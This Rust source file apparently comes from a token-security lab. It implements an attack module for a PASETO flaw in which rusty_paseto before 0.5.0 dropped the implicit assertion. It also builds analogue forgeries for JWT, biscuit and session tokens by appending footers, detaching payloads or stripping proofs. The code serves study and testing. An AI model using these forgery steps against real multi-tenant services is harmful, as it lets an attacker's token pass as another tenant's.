//! An implicit assertion that the issuer's library drops.
//!
//! The flawed assumption: what was bound to a token is bound to it. An implicit
//! assertion is authenticated and not in the token (PASETO specification,
//! Version3 and Version4), so that a token for one tenant fails at another's
//! verifier; nobody can see in a token whether it was. rusty_paseto to 0.4.0
//! took the assertion for v3.local in its builder and never passed it on; fixed
//! in 0.5.0. There is no CVE.
//!
//! Mallory is the administrator of a tenant of her own, which the issuer binds
//! her token to; she sends it to the service that expects no assertion at all.
//! Versions 1 and 2 have no implicit assertions. JOSE has no such thing for
//! compact tokens: the nearest is a payload that both sides know and that is
//! left out (RFC 7515, Appendix F), and a JWT names its audience instead.

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit;
use crate::card::AttackProfile;
use crate::given::Given;
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct PasetoImplicitDropped;

static PROFILE: AttackProfile = AttackProfile {
    id: "paseto-implicit-dropped",
    title: "Implicit assertion silently dropped",
    assumption: "What the issuer bound to a token is bound to it.",
    class: AttackClass::Native,
    given: &[Given::IssuerSigns(
        "A token of her own tenant, whose administrator she is and to which the issuer binds it by an implicit assertion.",
    )],
    isolated: false,
    breaks: &[Weakness::ImplicitAssertionDropped],
    references: &[
        (
            "PASETO specification, Version3 and Version4",
            "The implicit assertion is part of what is authenticated and no part of the token.",
        ),
        (
            "rusty_paseto changelog, 0.5.0",
            "v3.local tokens were made without the implicit assertion that had been set; fixed in 0.5.0.",
        ),
        (
            "RFC 8725 §3.9",
            "JWT's way to say for whom a token is: an audience, which the verifier compares.",
        ),
    ],
    lesson: include_str!("../../lessons/paseto-implicit-dropped.md"),
};

/// What the issuer binds her tenant's tokens to.
const ASSERTION: &str = "tenant: mallory's";

impl Attack for PasetoImplicitDropped {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let (why, forgery) = match view.scheme() {
            Scheme::Paseto(version, _) if version.has_implicit_assertion() => {
                return Ok(vec![of_her_tenant(view, notes)?]);
            }
            Scheme::Paseto(version, _) => (
                format!("{} has no implicit assertion", version.name()),
                assertion_as_footer(view, notes),
            ),
            Scheme::Jwt(_) | Scheme::Jwe(..) => (
                "nothing is bound to a compact token that does not stand in it".to_owned(),
                detached(view, notes),
            ),
            Scheme::Biscuit => (
                "a biscuit is bound to its holder by a proof, and to nothing outside it".to_owned(),
                without_proof(view, notes)?,
            ),
            Scheme::Session(_) => (
                "nothing is bound to an id: what belongs to it stands in the store".to_owned(),
                tenant_before_id(view, notes),
            ),
        };
        Err(CannotForge::Inexpressible {
            why,
            tried: vec![forgery],
        })
    }
}

/// An authentic token for somebody of the victim's name, bound to another tenant.
fn of_her_tenant(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let mut draft = view.draft(view.wanted())?;
    draft.implicit_assertion = ASSERTION.into();
    let token = view.issued(&draft)?;
    let variant = "of-her-own-tenant";
    notes.variant_step(
        variant,
        "Founds a tenant of her own, calls its administrator admin, and gets a token that is bound to it.",
        ASSERTION,
    );
    Ok(Forgery::new(variant, token))
}

fn assertion_as_footer(view: &AttackerView<'_>, notes: &mut Notebook) -> Forgery {
    let variant = "assertion-as-footer";
    notes.variant_step(
        variant,
        "Appends what would be the implicit assertion to her own token, as a footer.",
        ASSERTION,
    );
    let before = view.sample().splitn(4, '.').take(3).collect::<Vec<_>>().join(".");
    Forgery::analogue(
        variant,
        format!("{before}.{}", mint::part(ASSERTION)),
        "the footer is authenticated as well, and the only other thing that a token can be bound to here",
    )
}

/// Her own token without what both sides might know: the payload of a JWS, the
/// ciphertext of a JWE.
fn detached(view: &AttackerView<'_>, notes: &mut Notebook) -> Forgery {
    let variant = "detached";
    notes.variant_step(
        variant,
        "Leaves the payload of her own token out, as if the verifier knew it.",
        "",
    );
    let parts: Vec<&str> = view.sample().split('.').collect();
    let left_out = if parts.len() == 3 { 1 } else { 3 };
    let kept: Vec<&str> = parts
        .iter()
        .enumerate()
        .map(|(place, part)| if place == left_out { "" } else { *part })
        .collect();
    Forgery::analogue(
        variant,
        kept.join("."),
        "a detached payload is the nearest that JOSE has to content that is authenticated and not sent",
    )
}

fn without_proof(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "no-proof";
    notes.variant_step(variant, "Leaves the proof at the end of her own biscuit out.", "");
    let sample = biscuit::Message::of_token(view.sample())
        .ok_or_else(|| CannotForge::Failed("the sample token is no biscuit".into()))?;
    Ok(Forgery::analogue(
        variant,
        sample.without(biscuit::PROOF).to_token(),
        "the proof is what binds a biscuit to its holder, and it is dropped",
    ))
}

fn tenant_before_id(view: &AttackerView<'_>, notes: &mut Notebook) -> Forgery {
    let variant = "tenant-before-id";
    notes.variant_step(
        variant,
        "Writes the name of a tenant before her own id.",
        ASSERTION,
    );
    Forgery::analogue(
        variant,
        format!("{}.{}", mint::part(ASSERTION), view.sample()),
        "an id has nothing bound to it, so the assertion is written before it",
    )
}
